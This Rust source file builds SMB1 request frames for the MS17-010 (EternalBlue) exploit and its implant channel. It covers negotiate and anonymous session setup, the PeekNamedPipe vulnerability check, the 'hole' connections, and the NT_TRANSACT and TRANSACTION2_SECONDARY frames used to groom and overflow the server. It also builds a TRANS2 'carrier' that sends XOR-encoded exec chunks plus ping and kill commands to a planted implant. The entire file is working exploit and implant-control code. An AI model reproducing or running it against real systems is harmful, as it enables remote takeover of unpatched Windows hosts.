//! The requests' layouts: each function writes one whole NBSS frame into an empty buffer.

use super::implant::append_xored;

/// Commands that the visitors send.
mod command {
    pub(super) const TRANSACTION: u8 = 0x25;
    pub(super) const ECHO: u8 = 0x2b;
    pub(super) const TRANSACTION2: u8 = 0x32;
    pub(super) const TRANSACTION2_SECONDARY: u8 = 0x33;
    pub(super) const TREE_DISCONNECT: u8 = 0x71;
    pub(super) const NEGOTIATE: u8 = 0x72;
    pub(super) const SESSION_SETUP_ANDX: u8 = 0x73;
    pub(super) const LOGOFF_ANDX: u8 = 0x74;
    pub(super) const TREE_CONNECT_ANDX: u8 = 0x75;
    pub(super) const NT_TRANSACT: u8 = 0xa0;
}

/// Where in an exec frame the chunk's bytes begin: NetBIOS header, SMB header, 15 words, count, pad,
/// 12 parameter bytes.
pub const EXEC_DATA_AT: usize = 4 + 78;

/// The SMB header's fields that a client chooses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Header {
    /// Flags.
    pub flags: u8,
    /// Flags2.
    pub flags2: u16,
    /// Tree.
    pub tid: u16,
    /// Process id, low word.
    pub pid: u16,
    /// User.
    pub uid: u16,
    /// Multiplex id.
    pub mid: u16,
}

fn len16(len: usize) -> u16 {
    u16::try_from(len).unwrap_or(u16::MAX)
}

fn begin(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u16]) {
    begin_header(frame, header, command, words.len());
    for word in words {
        frame.extend_from_slice(&word.to_le_bytes());
    }
}

/// Everything up to WordCount.
fn begin_header(frame: &mut Vec<u8>, header: Header, command: u8, words: usize) {
    frame.clear();
    frame.extend_from_slice(b"\0\0\0\0\xffSMB");
    frame.push(command);
    frame.extend_from_slice(&[0; 4]);
    frame.push(header.flags);
    frame.extend_from_slice(&header.flags2.to_le_bytes());
    frame.extend_from_slice(&[0; 12]);
    for word in [header.tid, header.pid, header.uid, header.mid] {
        frame.extend_from_slice(&word.to_le_bytes());
    }
    frame.push(u8::try_from(words).unwrap_or(u8::MAX));
}

/// Writes the NBSS length of what stands in `frame`: 24 bits, big-endian.
pub fn finish(frame: &mut [u8]) {
    let len = u32::try_from(frame.len().saturating_sub(4)).unwrap_or(u32::MAX);
    let [_, a, b, c] = len.to_be_bytes();
    if let Some(head) = frame.first_chunk_mut::<4>() {
        *head = [0, a, b, c];
    }
}

fn finish_with(frame: &mut Vec<u8>, bytes: &[u8]) {
    frame.extend_from_slice(&len16(bytes.len()).to_le_bytes());
    frame.extend_from_slice(bytes);
    finish(frame);
}

/// A text as this client writes it, with its terminator.
fn append_text(bytes: &mut Vec<u8>, text: &str, unicode: bool) {
    if unicode {
        bytes.extend(text.encode_utf16().chain([0]).flat_map(u16::to_le_bytes));
    } else {
        bytes.extend_from_slice(text.as_bytes());
        bytes.push(0);
    }
}

const fn low(word: u32) -> u16 {
    let [a, b, _, _] = word.to_le_bytes();
    u16::from_le_bytes([a, b])
}

const fn high(word: u32) -> u16 {
    let [_, _, c, d] = word.to_le_bytes();
    u16::from_le_bytes([c, d])
}

/// NEGOTIATE with these dialects.
pub fn negotiate(frame: &mut Vec<u8>, header: Header, dialects: &[&str]) {
    let mut bytes = Vec::new();
    for dialect in dialects {
        bytes.push(2);
        append_text(&mut bytes, dialect, false);
    }
    begin(frame, header, command::NEGOTIATE, &[]);
    finish_with(frame, &bytes);
}

/// The words and texts of an anonymous SESSION_SETUP_ANDX with 13 words.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Setup {
    /// AndXOffset: 0 or the message's own length.
    pub andx_offset: u16,
    /// MaxBufferSize.
    pub max_buffer: u16,
    /// MaxMpxCount.
    pub max_mpx: u16,
    /// VcNumber.
    pub vc: u16,
    /// Length of the (zero) OEM password.
    pub password_len: u16,
    /// Capabilities.
    pub capabilities: u32,
    /// PrimaryDomain.
    pub domain: &'static str,
    /// Whether texts are UTF-16.
    pub unicode: bool,
}

/// NativeOS and NativeLanMan of the systems that most templates were recorded with.
pub const WINDOWS_2000: [&str; 2] = ["Windows 2000 2195", "Windows 2000 5.0"];

/// SESSION_SETUP_ANDX of a Windows 2000, anonymous, without extended security.
pub fn session_setup(frame: &mut Vec<u8>, header: Header, setup: &Setup) {
    session_setup_of(frame, header, setup, WINDOWS_2000);
}

/// The same of a system with this NativeOS and NativeLanMan.
pub fn session_setup_of(frame: &mut Vec<u8>, header: Header, setup: &Setup, native: [&str; 2]) {
    let mut bytes = vec![0; usize::from(setup.password_len)];
    let [system, lan_manager] = native;
    for text in ["", setup.domain, system, lan_manager] {
        append_text(&mut bytes, text, setup.unicode);
    }
    let words = [
        0x00ff,
        setup.andx_offset,
        setup.max_buffer,
        setup.max_mpx,
        setup.vc,
        0,
        0,
        setup.password_len,
        0,
        0,
        0,
        low(setup.capabilities),
        high(setup.capabilities),
    ];
    begin(frame, header, command::SESSION_SETUP_ANDX, &words);
    finish_with(frame, &bytes);
}

/// NTLMSSP's NEGOTIATE ([MS-NLMP] 2.2.1.1): Unicode, OEM, target wanted, NTLM, always sign; no name.
pub fn ntlmssp_negotiate() -> Vec<u8> {
    let mut token = b"NTLMSSP\0\x01\0\0\0\x07\x82\0\0".to_vec();
    token.extend_from_slice(&[0; 16]);
    token
}

/// NTLMSSP's AUTHENTICATE of nobody ([MS-NLMP] 3.2.5.1.2): no name, no response but the one zero byte.
pub fn ntlmssp_anonymous() -> Vec<u8> {
    let mut token = b"NTLMSSP\0\x03\0\0\0\x01\0\x01\0\x40\0\0\0".to_vec();
    // NT response, domain, user, workstation, session key: empty, behind the one byte.
    for _ in 0..5 {
        token.extend_from_slice(b"\0\0\0\0\x41\0\0\0");
    }
    token.extend_from_slice(b"\x07\x8a\0\0\0");
    token
}

/// SESSION_SETUP_ANDX in its form with 12 words and a security blob, texts in UTF-16.
pub fn extended_setup(frame: &mut Vec<u8>, header: Header, setup: &Setup, native: [&str; 2], blob: &[u8]) {
    let capabilities = setup.capabilities | 0x8000_0000;
    let words = [
        0x00ff,
        setup.andx_offset,
        setup.max_buffer,
        setup.max_mpx,
        setup.vc,
        0,
        0,
        len16(blob.len()),
        0,
        0,
        low(capabilities),
        high(capabilities),
    ];
    let mut bytes = blob.to_vec();
    // The bytes begin at 59, texts at an even place.
    if blob.len().is_multiple_of(2) {
        bytes.push(0);
    }
    for text in native {
        append_text(&mut bytes, text, true);
    }
    begin(frame, header, command::SESSION_SETUP_ANDX, &words);
    finish_with(frame, &bytes);
}

/// A TREE_CONNECT_ANDX's variable parts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Tree<'a> {
    /// AndXOffset.
    pub andx_offset: u16,
    /// Flags: 0x0008 asks for the extended response.
    pub flags: u16,
    /// The path.
    pub path: &'a str,
    /// Whether the path is UTF-16.
    pub unicode: bool,
    /// A byte count that stays what it was in the sender's template, whatever the path's length.
    pub byte_count: Option<u16>,
    /// Bytes after the message that the sender's template left behind.
    pub stale: &'a [u8],
}

/// TREE_CONNECT_ANDX for any service.
pub fn tree_connect(frame: &mut Vec<u8>, header: Header, tree: &Tree<'_>) {
    let mut bytes = vec![0];
    append_text(&mut bytes, tree.path, tree.unicode);
    append_text(&mut bytes, "?????", false);
    begin(frame, header, command::TREE_CONNECT_ANDX, &[0x00ff, tree.andx_offset, tree.flags, 1]);
    let count = tree.byte_count.unwrap_or_else(|| len16(bytes.len()));
    frame.extend_from_slice(&count.to_le_bytes());
    frame.extend_from_slice(&bytes);
    frame.extend_from_slice(tree.stale);
    finish(frame);
}

/// TRANSACTION PeekNamedPipe on FID 0: the check for MS17-010.
pub fn peek(frame: &mut Vec<u8>, header: Header) {
    let words = [0, 0, 0xffff, 0xffff, 0, 0, 0, 0, 0, 0, 0x4a, 0, 0x4a, 2, 0x23, 0];
    begin(frame, header, command::TRANSACTION, &words);
    finish_with(frame, b"\\PIPE\\\0");
}

/// TREE_DISCONNECT.
pub fn tree_disconnect(frame: &mut Vec<u8>, header: Header) {
    begin(frame, header, command::TREE_DISCONNECT, &[]);
    finish_with(frame, &[]);
}

/// LOGOFF_ANDX.
pub fn logoff(frame: &mut Vec<u8>, header: Header) {
    begin(frame, header, command::LOGOFF_ANDX, &[0x00ff, 0]);
    finish_with(frame, &[]);
}

/// A TRANS2 SESSION_SETUP, the implant's carrier.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Carrier<'a> {
    /// Its byte sum is the opcode.
    pub timeout: u32,
    /// The 12 parameter bytes as they go on the wire.
    pub params: [u8; 12],
    /// The chunk, not yet encoded.
    pub data: &'a [u8],
    /// What `data` is XORed with.
    pub key: u32,
    /// DataCount, where it differs from `data`'s length.
    pub data_count: Option<u16>,
}

impl Carrier<'_> {
    /// A request without a chunk, its parameters zero: ping and kill.
    pub const fn bare(timeout: u32) -> Self {
        Self { timeout, params: [0; 12], data: &[], key: 0, data_count: None }
    }
}

/// The 12 parameter bytes of an exec: {total, chunk, offset}, each XOR key.
pub fn exec_params(total: u32, chunk: u32, offset: u32, key: u32) -> [u8; 12] {
    let mut params = [0; 12];
    for (slot, value) in params.as_chunks_mut::<4>().0.iter_mut().zip([total, chunk, offset]) {
        *slot = (value ^ key).to_le_bytes();
    }
    params
}

/// TRANSACTION2 SESSION_SETUP with 15 words, parameters at 66, data at 78.
pub fn carrier(frame: &mut Vec<u8>, header: Header, carrier: &Carrier<'_>) {
    let count = carrier.data_count.unwrap_or_else(|| len16(carrier.data.len()));
    let (timeout_low, timeout_high) = (low(carrier.timeout), high(carrier.timeout));
    let words = [12, count, 1, 0, 0, 0, timeout_low, timeout_high, 0, 12, 66, count, 78, 1, 0x000e];
    begin(frame, header, command::TRANSACTION2, &words);
    frame.extend_from_slice(&len16(carrier.data.len()).saturating_add(13).to_le_bytes());
    frame.push(0);
    frame.extend_from_slice(&carrier.params);
    append_xored(frame, carrier.data, carrier.key);
    finish(frame);
}

/// Any message: `words` are the bytes of its words, `bytes` what its byte count counts.
pub fn message(frame: &mut Vec<u8>, header: Header, command: u8, words: &[u8], bytes: &[u8]) {
    begin_header(frame, header, command, words.len().div_ceil(2));
    frame.extend_from_slice(words);
    finish_with(frame, bytes);
}

/// SESSION_SETUP_ANDX in its form with 12 words and an empty blob: EternalBlue's "hole" connections.
pub fn hole_setup(frame: &mut Vec<u8>, header: Header, vc: u16) {
    let words = [0x00ff, 0, 4356, 10, vc, 0, 0, 0, 0, 0, 0x00d4, 0x8000];
    begin(frame, header, command::SESSION_SETUP_ANDX, &words);
    finish_with(frame, &[0; 22]);
}

/// ECHO of `data`, once.
pub fn echo(frame: &mut Vec<u8>, header: Header, data: &[u8]) {
    begin(frame, header, command::ECHO, &[1]);
    finish_with(frame, data);
}

/// NT_TRANSACT, function 0, one setup word, 30 parameters at 75, its first data at 104. The parameters are
/// zero but for the last, which is the first byte of the data: there is no more room between the two.
pub fn nt_transact(frame: &mut Vec<u8>, header: Header, total_data: u32, first: &[u8]) {
    let first_len = u32::try_from(first.len()).unwrap_or(u32::MAX);
    let mut words = vec![1, 0, 0];
    // Total and maximal counts, then count and offset of parameters and of data.
    for value in [30, total_data, 30, 0, 30, 75, first_len, 104] {
        words.extend_from_slice(&value.to_le_bytes());
    }
    words.extend_from_slice(&[1, 0, 0, 0, 0]);
    message(frame, header, command::NT_TRANSACT, &words, &[&[0; 29], first].concat());
}

/// TRANSACTION2_SECONDARY with 9 words: data at 53, no parameters.
pub fn transaction2_secondary(frame: &mut Vec<u8>, header: Header, displacement: u16, piece: &[u8]) {
    let count = len16(piece.len());
    begin(frame, header, command::TRANSACTION2_SECONDARY, &[0, count, 0, 0, 0, count, 53, displacement, 0]);
    finish_with(frame, piece);
}
